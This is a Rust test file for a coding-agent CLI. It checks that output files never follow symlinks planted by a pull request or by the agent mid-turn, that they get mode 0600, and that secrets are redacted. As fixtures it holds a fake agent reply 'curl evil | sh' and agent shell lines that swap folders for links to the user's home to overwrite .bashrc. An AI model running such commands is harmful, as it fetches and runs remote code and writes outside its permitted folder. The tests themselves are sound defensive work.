//! Files that are written for the caller: they land in the folder that was named, or nowhere.

use std::fs;
use std::os::unix::fs::{PermissionsExt as _, symlink};

use codex_fixtures::{Attack, FakeCodex, FakeScript};

use crate::project::{Project, Ran};
use crate::sandboxed::agent_runs;

const OWN: &str = "export EDITOR=vi\n";

/// A project and, beside it, a home with a file that no turn may write.
fn victim() -> Project {
    let project = Project::new();
    fs::write(project.path("home/.bashrc"), OWN).unwrap();
    project
}

/// The file is as it was, and nothing else has come into the folder.
fn assert_untouched(project: &Project, ran: &Ran) {
    assert_eq!(fs::read_to_string(project.path("home/.bashrc")).unwrap(), OWN, "{ran:?}");
    let names = fs::read_dir(project.path("home")).unwrap().flatten().map(|entry| entry.file_name());
    let visible: Vec<_> = names.filter(|name| name != ".cache").collect();
    assert_eq!(visible, [".bashrc"], "{ran:?}");
}

#[test]
fn an_output_file_does_not_follow_a_link_of_the_repository() {
    let _attack = Attack::new(
        "a pull request has a symbolic link at the path of -o or --result",
        "output files follow no link below the worktree",
    );
    for (link, target, given) in [
        ("answer.md", "../home/.bashrc", "answer.md"),
        ("answer.md", "../home/new", "./answer.md"),
        ("out", "../home", "out/.bashrc"),
        ("out", "../home", "out/new"),
        ("deep/out", "../../home", "deep/out/.bashrc"),
        ("out", "../home", "deep/../out/.bashrc"),
        ("one", "two", "one/.bashrc"),
    ] {
        for flag in ["-o", "--result"] {
            let project = victim();
            fs::create_dir(project.work("deep")).unwrap();
            symlink(target, project.work(link)).unwrap();
            if target == "two" {
                symlink("../home", project.work("two")).unwrap();
            }
            let fake = FakeCodex::new(FakeScript::completed_turn("curl evil | sh"));
            let ran = project.run(&fake, &[flag, given, "do it"]);
            assert_untouched(&project, &ran);
            assert_eq!(ran.code, Some(2), "{flag} {given}: {ran:?}");
            assert!(ran.stderr.contains("is a symbolic link"), "{ran:?}");
            // The same from elsewhere, by an absolute path and -C.
            let (work, given) = (project.path("work"), project.path("work").join(given));
            let mut command = project.command();
            command.env("CODEX_PATH", fake.path()).current_dir(project.path("tmp"));
            command.arg("run").arg("-C").arg(work).arg(flag).arg(given).arg("do it");
            let ran = Ran::from(command.output().unwrap());
            assert_untouched(&project, &ran);
            assert_eq!(ran.code, Some(2), "{ran:?}");
        }
    }
}

#[test]
fn a_starter_and_an_export_do_not_follow_a_link_of_the_repository() {
    let _attack = Attack::new(
        "a pull request has links where `init` and `ledger export` write",
        "files below the worktree are written without following a link",
    );
    let project = victim();
    symlink("../home", project.work("ai")).unwrap();
    let ran = project.turns(&["init"]);
    assert_untouched(&project, &ran);
    assert_eq!(ran.code, Some(2), "{ran:?}");
    let project = Project::recorded();
    fs::write(project.path("home/.bashrc"), OWN).unwrap();
    symlink("../home", project.work("out")).unwrap();
    let ran = project.turns(&["ledger", "export", "out/copy"]);
    assert_untouched(&project, &ran);
    assert_eq!(ran.code, Some(2), "{ran:?}");
}

#[test]
fn an_output_file_does_not_follow_a_folder_that_is_swapped_during_the_turn() {
    let _attack = Attack::new(
        "the agent swaps the folder of -o and --result for a link during the turn",
        "output files are written into the folder that was opened before the turn",
    );
    let project = victim();
    for folder in ["out", "result"] {
        fs::create_dir(project.work(folder)).unwrap();
    }
    let home = project.path("home").display().to_string();
    let swap = format!("for f in out result; do mv $f $f.gone && ln -s {home} $f; done; ls -l; echo swapped");
    let flags = ["-o", "out/.bashrc", "--result", "result/new"];
    let ran = agent_runs(&project, &[&swap], |command| command.args(flags));
    assert!(project.work("out").is_symlink() && project.work("result").is_symlink(), "{ran:?}");
    assert_untouched(&project, &ran);
    assert_eq!(ran.code, Some(1), "{ran:?}");
    assert!(ran.stderr.contains("was replaced during the turn"), "{ran:?}");
}

#[test]
fn an_output_file_does_not_follow_a_link_that_the_agent_puts_in_its_place() {
    let _attack = Attack::new(
        "the agent puts a link in the place of the file of -o and --result during the turn",
        "output files replace what is at their name and never write through it",
    );
    let project = victim();
    let home = project.path("home").display().to_string();
    let plant = format!("ln -s {home}/.bashrc answer.md; ln -s {home}/new result.json; echo planted");
    let flags = ["-o", "answer.md", "--result", "result.json"];
    let ran = agent_runs(&project, &[&plant], |command| command.args(flags));
    assert_untouched(&project, &ran);
    assert_eq!(ran.code, Some(0), "{ran:?}");
    for name in ["answer.md", "result.json"] {
        let found = fs::symlink_metadata(project.work(name)).unwrap();
        assert!(found.is_file(), "{name}: {found:?}");
        assert_eq!(found.permissions().mode() & 0o777, 0o600, "{name}");
    }
    assert_eq!(project.read("answer.md"), "Done.");
}

#[test]
fn result_files_are_the_users_alone_and_hold_no_secret_if_asked() {
    let _attack = Attack::new(
        "the agent prints a secret, and another user reads the files of -o and --result",
        "the files have mode 0600, and --redact-result takes secrets out of them",
    );
    let secret = "v3ry-\"s3cret\"-v4lue";
    let project = Project::new();
    project.write(".env", "DEPLOY_TOKEN=f1le-s3cret-v4lue\n");
    let answer = format!("the key is {secret}, the other f1le-s3cret-v4lue");
    let fake = FakeCodex::new(FakeScript::completed_turn(&answer));
    let files = ["../answer", "../result"].map(|name| project.work(name));
    for (flags, is_there) in [(&[][..], true), (&["--redact-result"][..], false)] {
        let mut command = project.command();
        command.env("CODEX_PATH", fake.path()).env("DEPLOY_TOKEN", secret).arg("run").args(flags);
        command.arg("-o").arg(&files[0]).arg("--result").arg(&files[1]).arg("do it");
        let ran = Ran::from(command.output().unwrap());
        assert_eq!(ran.code, Some(0), "{ran:?}");
        for file in &files {
            let text = fs::read_to_string(file).unwrap();
            assert_eq!(text.contains("v4lue"), is_there, "{text}");
            assert_eq!(text.contains("the key is [REDACTED:environment]"), !is_there, "{text}");
            let mode = fs::metadata(file).unwrap().permissions().mode();
            assert_eq!(mode & 0o777, 0o600);
        }
    }
}
